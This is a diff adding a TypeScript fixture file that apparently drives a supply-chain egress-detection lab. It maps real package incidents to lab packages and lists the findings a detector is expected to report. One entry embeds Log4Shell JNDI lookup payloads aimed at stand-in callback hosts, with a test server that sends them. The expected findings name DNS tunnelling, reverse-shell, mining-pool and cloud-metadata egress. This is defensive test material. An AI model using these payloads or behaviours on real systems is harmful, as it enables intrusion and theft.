@@ -1,0 +1,323 @@
+import type { Incident } from './incident.js';
+
+/** A request with three headers that a logger looks up. */
+const HEADER_TEST = `const http = require('node:http');
+const log = require('header-look-up');
+const client = require('api-client');
+const headers = process.env.LAB_HEADERS?.split(' ') ?? ['1.0'];
+const server = http.createServer(async (request, answer) => {
+  await log(String(request.headers['x-api-version']));
+  answer.end();
+});
+server.listen(0, '127.0.0.1', async () => {
+  for (const value of headers) {
+    await new Promise((done) => {
+      const options = { port: server.address().port, headers: { 'x-api-version': value } };
+      http.get(options, (answer) => answer.resume().on('end', done));
+    });
+  }
+  await client();
+  server.close();
+});
+`;
+
+export const INCIDENTS: readonly Incident[] = [
+  {
+    slug: 'paste-and-eval',
+    incident: 'eslint-scope 3.7.2, 2018',
+    runsAt: 'postinstall',
+    phase: 'install',
+    signs: ['ND', 'AD'],
+    lifecycle: 'postinstall',
+    unlocked: [],
+    observed: ['high: first-egress-of-package: several: paste-and-eval@1.0.1'],
+    enforced: [
+      'high: blocked: stats.partner.example: paste-and-eval@1.0.1',
+      'high: first-egress-of-package: several: paste-and-eval@1.0.1',
+    ],
+  },
+  {
+    slug: 'description-key',
+    incident: 'flatmap-stream 0.1.1, 2018',
+    runsAt: 'import, by `npm_package_description`',
+    phase: 'test',
+    signs: ['ND', 'IP', 'NP'],
+    // npm 6 set it from the manifest.
+    env: { npm_package_description: 'A wallet of the lab' },
+    unlocked: ['medium: direct-address: 192.0.2.66:80/http: description-key@1.0.1'],
+    observed: ['high: first-egress-of-package: several: description-key@1.0.1'],
+    enforced: ['high: first-egress-of-package: several: description-key@1.0.1'],
+  },
+  {
+    slug: 'hex-labels',
+    incident: 'dependency confusion, 2021',
+    runsAt: 'preinstall',
+    phase: 'install',
+    signs: ['DT'],
+    lifecycle: 'preinstall',
+    unlocked: ['high: dns-tunnel: *.confused-names.example: hex-labels@1.0.1'],
+    observed: ['critical: dns-tunnel: *.confused-names.example: hex-labels@1.0.1'],
+    enforced: ['critical: dns-tunnel: *.confused-names.example: hex-labels@1.0.1'],
+  },
+  {
+    slug: 'miner-by-country',
+    incident: 'ua-parser-js 0.7.29, 2021',
+    runsAt: 'preinstall, by country',
+    phase: 'install',
+    signs: ['IP', 'ND', 'PM'],
+    lifecycle: 'preinstall',
+    unlocked: [
+      'critical: protocol-port-mismatch: pool.mining.example:443/stratum: miner-by-country@1.0.1',
+      'medium: direct-address: 192.0.2.66:80/http: miner-by-country@1.0.1',
+    ],
+    observed: [
+      'critical: protocol-port-mismatch: pool.mining.example:443/stratum: miner-by-country@1.0.1',
+      'high: first-egress-of-package: several: miner-by-country@1.0.1',
+    ],
+    enforced: ['high: first-egress-of-package: several: miner-by-country@1.0.1'],
+  },
+  {
+    slug: 'header-look-up',
+    incident: 'Log4Shell, 2021',
+    runsAt: 'a request header in a test',
+    phase: 'test',
+    signs: ['NP', 'PM', 'DT'],
+    version: '1.0.0',
+    env: {
+      LAB_HEADERS: [
+        `$\{jndi:ldap://ldap.callback.example/a}`,
+        `$\{jndi:rmi://rmi.callback.example/a}`,
+        `$\{jndi:dns://env.callback.example/a}`,
+      ].join(' '),
+      LAB_CLOUD_SECRET:
+        'EXAMPLE-SECRET-abcdefghijklmnopqrstuvwxyz EXAMPLE-KEY-ID EXAMPLE-TOKEN-0123456789 builder@build-host.example',
+    },
+    test: HEADER_TEST,
+    unlocked: [
+      'critical: protocol-port-mismatch: ldap.callback.example:1389/ldap: header-look-up@1.0.0',
+      'critical: protocol-port-mismatch: rmi.callback.example:1099/rmi: header-look-up@1.0.0',
+      'medium: dns-tunnel: *.callback.example: header-look-up@1.0.0',
+      'medium: protocol-port-mismatch: ldap.callback.example:8888/http: header-look-up@1.0.0',
+    ],
+    observed: [
+      'critical: protocol-port-mismatch: ldap.callback.example:1389/ldap: header-look-up@1.0.0',
+      'critical: protocol-port-mismatch: rmi.callback.example:1099/rmi: header-look-up@1.0.0',
+      'high: dns-tunnel: *.callback.example: header-look-up@1.0.0',
+      'high: protocol-port-mismatch: ldap.callback.example:8888/http: header-look-up@1.0.0',
+    ],
+    enforced: ['high: dns-tunnel: *.callback.example: header-look-up@1.0.0'],
+  },
+  {
+    slug: 'chunk-labels',
+    incident: 'torchtriton, 2022',
+    runsAt: 'import',
+    phase: 'test',
+    signs: ['DT', 'TLD'],
+    unlocked: ['high: dns-tunnel: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1'],
+    observed: ['critical: dns-tunnel: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1'],
+    enforced: ['critical: dns-tunnel: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1'],
+  },
+  {
+    slug: 'key-in-headers',
+    incident: '@solana/web3.js 1.95.6, 2024',
+    runsAt: 'key use',
+    phase: 'test',
+    signs: ['ND', 'TLD'],
+    unlocked: ['low: risky-tld: rpc-partner-egresslock-lab.xyz:443/tls: key-in-headers@1.0.1'],
+    observed: ['high: new-destination: rpc-partner-egresslock-lab.xyz:443/tls: key-in-headers@1.0.1'],
+    enforced: ['high: blocked: rpc-partner-egresslock-lab.xyz: key-in-headers@1.0.1'],
+  },
+  {
+    slug: 'trusted-binary',
+    incident: 'ultralytics 8.3.41, 2024',
+    runsAt: 'runtime',
+    phase: 'test',
+    signs: ['NP', 'PM', 'AD'],
+    passes: ['api.codehost.example/repos/someone/weights/contents/runner.bin'],
+    unlocked: ['critical: protocol-port-mismatch: pool.mining.example:8080/stratum: trusted-binary@1.0.1'],
+    observed: [
+      'critical: protocol-port-mismatch: pool.mining.example:8080/stratum: trusted-binary@1.0.1',
+      'high: first-egress-of-package: several: trusted-binary@1.0.1',
+    ],
+    enforced: ['high: first-egress-of-package: several: trusted-binary@1.0.1'],
+  },
+  {
+    slug: 'reverse-shell',
+    incident: 'ethers-provider2, 2025',
+    runsAt: 'install',
+    phase: 'install',
+    signs: ['IP', 'NP'],
+    lifecycle: 'install',
+    unlocked: ['medium: direct-address: 192.0.2.66:31337/unknown: reverse-shell@1.0.1'],
+    observed: ['high: direct-address: 192.0.2.66:31337/unknown: reverse-shell@1.0.1'],
+    enforced: ['high: blocked: 192.0.2.66:31337/none: reverse-shell@1.0.1'],
+  },
+  {
+    slug: 'second-package',
+    incident: 'rand-user-agent 2.0.83, 2025',
+    runsAt: 'import',
+    phase: 'test',
+    signs: ['IP', 'NP', 'PM'],
+    unlocked: [
+      'medium: protocol-port-mismatch: 192.0.2.66:27017/http: second-package@1.0.1',
+      'medium: protocol-port-mismatch: 192.0.2.66:3306/http: second-package@1.0.1',
+    ],
+    observed: [
+      'high: first-egress-of-package: several: second-package@1.0.1',
+      'high: new-destination: registry.lab.example:443/tls: @npmcli/agent',
+      'high: protocol-port-mismatch: 192.0.2.66:27017/http: second-package@1.0.1',
+      'high: protocol-port-mismatch: 192.0.2.66:3306/http: second-package@1.0.1',
+    ],
+    enforced: [
+      'high: blocked: registry.lab.example: @npmcli/agent',
+      'high: first-egress-of-package: several: second-package@1.0.1',
+    ],
+  },
+  {
+    slug: 'code-host-repository',
+    incident: 'nx 21.5.0, 2025',
+    runsAt: 'postinstall',
+    phase: 'install',
+    signs: ['AD'],
+    lifecycle: 'postinstall',
+    unlocked: [],
+    observed: ['high: allowed-host-new-package: api.codehost.example:443/tls: code-host-repository@1.0.1'],
+    enforced: ['high: blocked: api.codehost.example: code-host-repository@1.0.1'],
+  },
+  {
+    slug: 'scanner-worm',
+    incident: '@ctrl/tinycolor 4.1.1, 2025',
+    runsAt: 'postinstall',
+    phase: 'install',
+    signs: ['MD', 'AD', 'ND'],
+    lifecycle: 'postinstall',
+    unlocked: ['high: metadata-address: 169.254.169.254:80/http: scanner-worm@1.0.1'],
+    observed: [
+      'critical: metadata-address: 169.254.169.254:80/http: scanner-worm@1.0.1',
+      'high: first-egress-of-package: several: scanner-worm@1.0.1',
+    ],
+    enforced: [
+      'critical: metadata-address: 169.254.169.254:80/none: scanner-worm@1.0.1',
+      'high: blocked: codehost.example: scanner-worm@1.0.1',
+      'high: first-egress-of-package: several: scanner-worm@1.0.1',
+    ],
+  },
+  {
+    slug: 'address-dependency',
+    incident: 'PhantomRaven, 2025',
+    runsAt: 'HTTP URL dependency, preinstall',
+    phase: 'install',
+    signs: ['ND', 'PM'],
+    culprit: 'ui-styles@1.0.0',
+    lifecycle: 'preinstall',
+    unlocked: ['medium: protocol-port-mismatch: packages.artifact-store.example:80/http: (npm)'],
+    observed: [
+      'high: new-destination: in.artifact-store.example:80/http: ui-styles@1.0.0',
+      'high: protocol-port-mismatch: packages.artifact-store.example:80/http: (npm)',
+    ],
+    enforced: ['high: blocked: packages.artifact-store.example: (npm)'],
+  },
+  {
+    slug: 'delayed-worm',
+    incident: 'SANDWORM_MODE, 2026',
+    runsAt: 'import, 48 h after install',
+    phase: 'test',
+    signs: ['DT', 'DGA', 'AD'],
+    isDelayed: true,
+    passes: ['api.codehost.example/user/repos'],
+    unlocked: [
+      'high: dga: several: delayed-worm@1.0.1',
+      'low: risky-tld: kiouelioyblhentyby.icu: delayed-worm@1.0.1',
+      'medium: dns-tunnel: *.backup-channel.example: delayed-worm@1.0.1',
+    ],
+    observed: [
+      'critical: dga: several: delayed-worm@1.0.1',
+      'high: dns-tunnel: *.backup-channel.example: delayed-worm@1.0.1',
+      'high: first-egress-of-package: several: delayed-worm@1.0.1',
+      'medium: risky-tld: kiouelioyblhentyby.icu: delayed-worm@1.0.1',
+    ],
+    enforced: [
+      'critical: dga: several: delayed-worm@1.0.1',
+      'high: dns-tunnel: *.backup-channel.example: delayed-worm@1.0.1',
+      'high: first-egress-of-package: several: delayed-worm@1.0.1',
+      'medium: risky-tld: kiouelioyblhentyby.icu: delayed-worm@1.0.1',
+    ],
+  },
+  {
+    slug: 'clear-text-beacon',
+    incident: 'plain-crypto-js 4.2.1 (axios 1.14.1), 2026',
+    runsAt: 'postinstall',
+    phase: 'install',
+    signs: ['ND', 'NP', 'PM'],
+    lifecycle: 'postinstall',
+    unlocked: [
+      'medium: protocol-port-mismatch: updates.package-check.example:8000/http: clear-text-beacon@1.0.1',
+    ],
+    observed: [
+      'high: protocol-port-mismatch: updates.package-check.example:8000/http: clear-text-beacon@1.0.1',
+    ],
+    enforced: ['high: blocked: updates.package-check.example: clear-text-beacon@1.0.1'],
+  },
+  {
+    slug: 'detached-resolver',
+    incident: 'node-ipc 12.0.1, 2026',
+    runsAt: 'require; detached child without NODE_OPTIONS',
+    phase: 'test',
+    signs: ['DT', 'IP', 'RS'],
+    unlocked: [
+      'high: dns-tunnel: *.node-check.example: detached-resolver@1.0.1',
+      'medium: own-resolver: 192.0.2.53:443/dns: detached-resolver@1.0.1',
+      'medium: own-resolver: 192.0.2.53:53/dns: detached-resolver@1.0.1',
+    ],
+    observed: [
+      'critical: dns-tunnel: *.node-check.example: detached-resolver@1.0.1',
+      'high: first-egress-of-package: several: detached-resolver@1.0.1',
+      'high: own-resolver: 192.0.2.53:443/dns: detached-resolver@1.0.1',
+      'high: own-resolver: 192.0.2.53:53/dns: detached-resolver@1.0.1',
+    ],
+    enforced: [
+      'critical: dns-tunnel: *.node-check.example: detached-resolver@1.0.1',
+      'high: first-egress-of-package: several: detached-resolver@1.0.1',
+      'high: own-resolver: 192.0.2.53:53/dns: detached-resolver@1.0.1',
+    ],
+  },
+  {
+    slug: 'traces-path',
+    incident: '@antv, 2026',
+    runsAt: 'install',
+    phase: 'install',
+    signs: ['ND'],
+    lifecycle: 'install',
+    unlocked: [],
+    observed: ['high: new-destination: otel.trace-intake.example:443/tls: traces-path@1.0.1'],
+    enforced: ['high: blocked: otel.trace-intake.example: traces-path@1.0.1'],
+  },
+  {
+    slug: 'gyp-expansion',
+    incident: 'Miasma, 2026',
+    runsAt: '`binding.gyp` command expansion',
+    phase: 'install',
+    signs: ['AD'],
+    lifecycle: 'install',
+    unlocked: [],
+    observed: ['high: first-egress-of-package: several: gyp-expansion@1.0.1'],
+    enforced: [
+      'high: blocked: api.codehost.example: gyp-expansion@1.0.1',
+      'high: blocked: codehost.example: gyp-expansion@1.0.1',
+    ],
+  },
+  {
+    slug: 'unverified-address',
+    incident: 'easy-day-js 1.11.22, 2026',
+    runsAt: 'postinstall, TLS checks off',
+    phase: 'install',
+    signs: ['IP', 'NP'],
+    lifecycle: 'postinstall',
+    unlocked: [
+      'medium: direct-address: 192.0.2.66:8000/tls: unverified-address@1.0.1',
+      'medium: direct-address: 192.0.2.67:443/tls: unverified-address@1.0.1',
+    ],
+    observed: ['high: first-egress-of-package: several: unverified-address@1.0.1'],
+    enforced: ['high: first-egress-of-package: several: unverified-address@1.0.1'],
+  },
+];
